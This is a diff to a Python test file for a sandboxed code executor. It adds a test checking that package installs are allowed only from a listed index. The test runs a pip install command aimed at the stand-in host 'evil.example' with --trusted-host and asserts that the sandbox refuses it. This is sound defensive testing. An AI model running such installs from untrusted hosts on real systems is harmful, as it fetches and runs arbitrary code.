@@ -22,6 +22,7 @@ from playhead.execution.process_executor import ProcessExecutor
 from playhead.sandbox.bubblewrap import look_for_sandbox
 from playhead.supervisor.outside_view import children
 from tests.support.kernels import error_of, report_of, run, text_of
+from tests.support.package_index import PackageIndex
 from tests.support.sandboxes import FOLDER, Place
 from tests.support.waiting import until
 
@@ -335,6 +336,23 @@ print(size == len(data), got.digest() == hashlib.sha256(data).digest())
     with echo() as world:
         async with place.executor(place.sandbox(outside=world.outside())) as made:
             assert await said(made, place, code) == "True True\n"
+
+
+async def test_packages_come_from_a_listed_index_and_from_no_other(place: Place) -> None:
+    index = PackageIndex()
+    index.add("tiny", {"tiny.py": "one = 1\n"})
+    world = {
+        "names": NAMES,
+        "ways": {f"{PUBLIC}:80": ["127.0.0.1", int(index.url.split(":")[2].split("/")[0])]},
+    }
+    get = "%pip install --trusted-host {0} -i http://{0}/simple tiny"
+    with index.serving():
+        async with place.executor(place.sandbox(outside=world)) as made:
+            refused = await run(made, place.request(get.format("evil.example"), LISTED))
+            assert [one.target for one in report_of(refused).refused] == ["evil.example:80"]
+            assert index.asked == []
+            words = await said(made, place, get.format("api.example"))
+            assert await said(made, place, "import tiny; print(tiny.one)") == "1\n", words
 
 
 async def test_the_end_of_the_gate_shuts_the_network_and_of_the_supervisor_all(
